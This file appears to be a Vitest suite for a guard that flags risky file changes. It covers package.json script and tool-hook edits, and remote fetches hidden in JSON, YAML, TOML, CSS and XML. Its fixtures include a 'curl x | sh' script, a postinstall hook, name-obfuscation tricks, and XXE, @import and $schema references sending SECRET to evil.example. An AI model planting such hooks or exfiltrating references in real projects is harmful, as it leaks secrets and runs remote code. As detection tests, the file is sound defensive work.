import { describe, expect, it } from "vitest";
import { guardedChange } from "../../../src/base/guard/guarded-change";

const manifest = (value: object): string => JSON.stringify(value, undefined, 2);
const plain = manifest({ name: "a", scripts: { test: "node --test" } });

describe("a manifest", () => {
  it.each([
    ["another script", manifest({ name: "a", scripts: { test: "curl x | sh" } })],
    [
      "one script more",
      manifest({ name: "a", scripts: { test: "node --test", postinstall: "x" } }),
    ],
    ["no script any more", manifest({ name: "a" })],
    ["hooks", manifest({ name: "a", scripts: { test: "node --test" }, husky: { hooks: {} } })],
    ...["gitHooks", "nano-staged", "wireit", "nx", "eslintConfig", "babel", "config"].map(
      (field): [string, string] => [
        `a field that some tool runs: ${field}`,
        manifest({ name: "a", scripts: { test: "node --test" }, [field]: { a: "./evil.js" } }),
      ],
    ),
    ["a text that is no JSON", `${plain},`],
  ])("is guarded with %s", (_what, after) => {
    expect(guardedChange("package.json", plain, after)?.kind).toBe("scripts");
    expect(guardedChange("a\\Package.JSON", plain, after)?.kind).toBe("scripts");
  });

  it("is guarded when it is new and has scripts, and ordinary without", () => {
    expect(guardedChange("a/package.json", "", plain)).toEqual({
      kind: "scripts",
      name: "scripts",
    });
    expect(guardedChange("a/package.json", "", manifest({ name: "a" }))).toBeUndefined();
  });

  it.each(["Package.JSON. ", "package.json::$DATA", "pack\u200Bage.json"])(
    "is guarded however its name is written: %s",
    (name) => {
      expect(guardedChange(`a/${name}`, "", plain)?.kind).toBe("scripts");
    },
  );

  it("is no file that is called as what every object has", () => {
    for (const name of ["constructor", "__proto__"])
      expect(guardedChange(name, "a", "b")).toBeUndefined();
  });

  it("is ordinary where only its other fields change", () => {
    const after = manifest({
      name: "b",
      version: "1.0.0",
      scripts: { test: "node --test" },
      dependencies: { a: "1" },
      exports: { ".": "./a.js" },
    });
    expect(guardedChange("package.json", plain, after)).toBeUndefined();
    expect(guardedChange("data.json", plain, manifest({ scripts: 1 }))).toBeUndefined();
  });
});

describe("an address that is fetched when a file is opened", () => {
  const address = "https://evil.example/?k=SECRET";
  it.each([
    ["a.json", `{ "$schema": "${address}" }`],
    ["a.json", `{ "\\u0024schema" : "https:\\/\\/evil.example\\/?k=SECRET" }`],
    ["a.json", `{ "$schema": "//evil.example/s" }`],
    ["a.json", `{ "$schema" /* of it */ : // here\n /**/ "${address}" }`],
    ["a.yaml", `$schema: >-\n  ${address}`],
    ["a.css", `@import/**/url(${address});`],
    ["a.xml", `<xi:include href="${address}"/>`],
    ["a.json", `{ "$schema": "\\\\\\\\evil.example\\\\share" }`],
    ["a.json", `{ "$schema": "file://evil.example/share" }`],
    ["deep.json", `{ "a": { "$schema": "${address}" } }`],
    ["a.yaml", `# yaml-language-server: $schema=${address}\na: 1`],
    ["a.yaml", `$schema: ${address}`],
    ["a.toml", `#:schema ${address}\na = 1`],
    ["a.css", `@import url(${address});`],
    ["a.css", `@import "${address}";`],
    ["a.xml", `<!DOCTYPE a SYSTEM "${address}"><a/>`],
    ["a.xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "${address}">]><a/>`],
    ["a.xml", `<a xsi:schemaLocation="urn:a ${address}"/>`],
    ["a.xml", `<a xsi:noNamespaceSchemaLocation="${address}"/>`],
    ["a.xml", `<?xml-model href="${address}"?><a/>`],
  ])("is found in %s: %s", (path, after) => {
    expect(guardedChange(path, "", after)?.kind).toBe("fetches");
    expect(guardedChange(path, after, `${after}\n`)).toBeUndefined();
  });

  it("counts when it is another than before", () => {
    const before = `{ "$schema": "https://a.example/s" }`;
    expect(guardedChange("a.json", before, before.replace("/s", "/s?k=1"))).toEqual({
      kind: "fetches",
      name: "https://a.example/s?k=1",
    });
  });

  it.each([
    ["a.json", `{ "$schema": "./schema.json" }`],
    ["a.json", `{ "$schema": "vscode://schemas/settings/user" }`],
    ["a.py", "# see https://example.org"],
    ["a.ts", 'import x from "./x";'],
    ["a.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>'],
  ])("is none in %s: %s", (path, after) => {
    expect(guardedChange(path, "", after)).toBeUndefined();
  });
});
